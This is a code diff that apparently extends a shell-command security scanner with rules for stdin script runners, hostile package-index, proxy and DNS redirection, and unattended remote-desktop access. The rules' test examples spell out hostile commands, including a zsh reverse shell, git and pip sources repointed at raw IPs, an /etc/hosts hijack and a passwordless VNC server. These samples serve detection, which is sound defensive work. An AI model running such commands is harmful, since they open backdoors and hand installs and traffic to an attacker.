@@ -52,9 +52,64 @@ function readsStdin(cmd: SimpleCommand): boolean {
   if (hasArg(cmd, '-s', '-')) return true;
   return operands(cmd).length === 0;
 }
-const runsCode = (c: SimpleCommand) => isShell(c.name) || isInterpreter(c.name) || c.name === 'source' || c.name === '.' || c.name === 'eval';
+const runsCode = (c: SimpleCommand) => isShell(c.name) || isInterpreter(c.name) || c.name === 'source' || c.name === '.' || c.name === 'eval' || stdinRunner(c);
+/** `uv run -`, `deno run -`, `bun run -`: runners that execute a script read from stdin. */
+const stdinRunner = (c: SimpleCommand) => (c.name === 'uv' || c.name === 'deno' || c.name === 'bun') && c.argv[1] === 'run' && c.argv.includes('-');
 
 const INSTALLERS = new Set(['dpkg', 'rpm', 'installer', 'apk', 'pacman', 'snap']);
+
+/**
+ * How far a configured source, proxy or resolver can be trusted: canonical and private hosts are
+ * ordinary (company mirrors), a raw IP, plain http or a drop/tunnel host is hostile, anything else unknown.
+ */
+function sourceTrust(value: string): 'ok' | 'unknown' | 'hostile' {
+  const v = value.trim();
+  if (!v || v === 'direct' || v === 'off') return 'ok';
+  const d = destinationOf(v) ?? destinationOf(`http://${v.replace(/^[a-z]+:\/\//, '')}`);
+  if (!d) return 'unknown';
+  if (d.kind === 'loopback' || d.kind === 'private' || d.kind === 'developer') return v.startsWith('http://') && d.kind === 'developer' ? 'hostile' : 'ok';
+  if (EXFIL_KINDS.has(d.kind)) return 'hostile';
+  return v.startsWith('http://') ? 'hostile' : 'unknown';
+}
+
+const PROXY_VARS = /^(https?_proxy|all_proxy|HTTPS?_PROXY|ALL_PROXY|PIP_INDEX_URL|PIP_EXTRA_INDEX_URL|UV_INDEX_URL|UV_EXTRA_INDEX_URL|NPM_CONFIG_REGISTRY|npm_config_registry|YARN_REGISTRY|GOPROXY|CARGO_REGISTRIES_[A-Z_]+_INDEX)$/;
+
+/** Settings that decide where code, packages, names or traffic come from, with the value they are set to. */
+function sourceSettings(c: SimpleCommand): Array<[string, string]> {
+  const a = c.argv;
+  const out: Array<[string, string]> = [];
+  const after = (k: number) => a[k + 1] ?? '';
+  for (let k = 1; k < a.length; k++) {
+    const w = a[k]!;
+    if (c.name === 'git' && /^url\..+\.insteadof$/i.test(w)) out.push([w, w.slice(4, w.toLowerCase().lastIndexOf('.insteadof'))]);
+    if (c.name === 'git' && /^https?\.proxy$/i.test(w)) out.push([w, after(k)]);
+    if (c.name === 'git' && /^http\.sslverify$/i.test(w) && after(k) === 'false') out.push([w, 'http://tls-off']);
+    if ((c.name === 'pip' || c.name === 'pip3' || c.name === 'uv' || c.name === 'uvx' || c.name === 'pipx' || c.name === 'poetry') && /^(--index-url|-i|--extra-index-url|--trusted-host|global\.index-url|global\.extra-index-url|global\.trusted-host)$/.test(w)) out.push([w, after(k)]);
+    if ((c.name === 'pip' || c.name === 'uv' || c.name === 'uvx' || c.name === 'pipx') && /^--(extra-)?index-url=/.test(w)) out.push([w, w.slice(w.indexOf('=') + 1)]);
+    if ((c.name === 'npm' || c.name === 'yarn' || c.name === 'pnpm' || c.name === 'npx') && (w === 'registry' || w === '--registry' || w === 'npmRegistryServer')) out.push([w, after(k)]);
+    if ((c.name === 'npm' || c.name === 'yarn' || c.name === 'pnpm') && (w === 'strict-ssl' || w === 'enableStrictSsl') && after(k) === 'false') out.push([w, 'http://tls-off']);
+    if ((c.name === 'npm' || c.name === 'pnpm') && w.startsWith('--registry=')) out.push([w, w.slice(11)]);
+    if (c.name === 'go' && /^(GOPROXY|GONOSUMDB|GONOSUMCHECK|GOINSECURE|GOFLAGS)=/.test(w)) out.push([w.split('=')[0]!, w.startsWith('GOPROXY=') ? w.slice(8).split(',')[0]! : /GOFLAGS=.*-insecure|GONOSUM|GOINSECURE/.test(w) ? 'http://checks-off' : 'direct']);
+    if (c.name === 'networksetup' && /^-set(dnsservers|webproxy|securewebproxy|socksfirewallproxy|autoproxyurl)$/.test(w)) out.push([w, a[k + 2] ?? after(k)]);
+    if (c.name === 'resolvectl' && w === 'dns') out.push([w, a[k + 2] ?? '']);
+  }
+  for (const x of c.assignments) if (PROXY_VARS.test(x.name)) out.push([x.name, x.value]);
+  return out;
+}
+
+function redirectedSources(i: AnalysisInput, level: 'hostile' | 'unknown'): string[] {
+  const out: string[] = [];
+  for (const c of i.view?.commands ?? []) for (const [k, v] of sourceSettings(c)) if (sourceTrust(v) === level) out.push(`${k} ${v}`);
+  for (const x of i.view?.assignments ?? []) if (PROXY_VARS.test(x.name) && sourceTrust(x.value) === level) out.push(`${x.name}=${x.value}`);
+  if (level === 'hostile') {
+    // a public name pinned in /etc/hosts or a new resolver: every later request can be steered
+    for (const f of i.facts.files) if (f.cmd && ['write', 'append', 'edit'].includes(f.access) && /^\/(private\/)?etc\/(hosts|resolv\.conf)$/.test(f.canonical)) {
+      const text = f.cmd.name === 'tee' ? f.cmd.stdin ?? '' : f.cmd.argv.slice(1).join(' ');
+      if (/nameserver\s+\d/.test(text) || /\d+\.\d+\.\d+\.\d+\s+[a-z0-9-]+\.[a-z]{2,}/i.test(text.replace(/\s+[a-z0-9-]+\.(local|localhost|test|internal|lan|home\.arpa)\b/gi, ''))) out.push(`${f.cmd.name} ${f.path}`);
+    }
+  }
+  return out;
+}
 
 export interface DownloadExec { dest?: Destination; evidence: string }
 
@@ -468,6 +523,29 @@ export const RULES: readonly Rule[] = [
       return !c.argv.includes('-l') && !c.argv.includes('-c') && host !== undefined && !/^(localhost|127\.)/.test(host) ? c.argv.join(' ') : undefined;
     },
     examples: { fire: ["zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.23 7002 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", 'ztcp 45.33.12.7 4444', "zsh -c 'zmodload zsh/net/tcp; ztcp evil.example 443'"], quiet: ['zmodload zsh/complist', 'ztcp -l 8080', 'ztcp localhost 5432'] },
+  },
+  {
+    id: 'PX-C2-021', name: 'redirects-code-or-traffic-to-untrusted-host', score: 80, tactic: 'command_and_control', technique: 'T1557',
+    message: 'Points a package index, git source, proxy or resolver at a raw IP, plain http or throwaway host', why: 'Every later install, clone or request then goes through the attacker: a supply-chain and interception foothold in one setting.',
+    check: (i) => redirectedSources(i, 'hostile'),
+    examples: { fire: ['git config --global url."http://45.61.136.9/".insteadOf https://github.com/', 'pip config set global.index-url http://45.61.136.9/simple', 'export HTTPS_PROXY=http://45.61.136.9:8080; npm install', "echo '45.61.136.9 api.crowdstrike.com' | sudo tee -a /etc/hosts", 'sudo networksetup -setdnsservers Wi-Fi 45.61.136.9', 'npm config set registry http://registry.evil-pkgs.ngrok.io/'], quiet: ['npm config set registry https://registry.npmjs.org/', 'pip config set global.index-url https://artifactory.corp.internal/api/pypi/simple', "echo '127.0.0.1 myapp.local' | sudo tee -a /etc/hosts", 'export HTTPS_PROXY=http://proxy.corp.internal:3128'] },
+  },
+  {
+    id: 'PX-C2-022', name: 'changes-package-source-or-proxy', score: 55, tactic: 'command_and_control', technique: 'T1195.001',
+    message: 'Points a package index, git source or proxy at an unfamiliar host', why: 'A new index or proxy decides what code every later install runs; check that the host is yours.',
+    check: (i) => redirectedSources(i, 'unknown'),
+    examples: { fire: ['pip config set global.index-url https://pypi-mirror.evil-pkgs.net/simple', 'git config --global url."https://git-mirror.attacker.dev/".insteadOf https://github.com/', 'go env -w GOPROXY=https://goproxy.attacker.dev,direct'], quiet: ['go env -w GOPROXY=https://proxy.golang.org,direct', 'git config --global pull.rebase true', 'pip install -r requirements.txt'] },
+  },
+  {
+    id: 'PX-C2-023', name: 'enables-unattended-remote-access', score: 85, tactic: 'command_and_control', technique: 'T1219',
+    message: 'Sets up unattended remote desktop access', why: 'A remote-access tool given a fixed password or no password at all is a backdoor with a GUI.',
+    commands: ['anydesk', 'teamviewer', 'x11vnc', 'vncserver', 'kickstart', 'rustdesk'],
+    test: (c) => {
+      const a = c.argv;
+      const hit = (c.name === 'anydesk' && a.includes('--set-password')) || (c.name === 'teamviewer' && (a.includes('passwd') || a.includes('--passwd'))) || (c.name === 'x11vnc' && (a.includes('-nopw') || (a.includes('-forever') && a.includes('-passwd')))) || (c.name === 'kickstart' && a.includes('-activate') && a.some((w) => /-privs|-allowAccessFor/.test(w))) || (c.name === 'rustdesk' && a.includes('--password'));
+      return hit ? a.join(' ') : undefined;
+    },
+    examples: { fire: ['echo P4ss | anydesk --set-password', 'x11vnc -display :0 -nopw -forever -bg', 'sudo /System/Library/CoreServices/RemoteManagement/ARDAgent.app/Contents/Resources/kickstart -activate -configure -access -on -privs -all'], quiet: ['anydesk --version', 'x11vnc -display :0 -localhost -usepw', 'teamviewer info'] },
   },
 ];
 
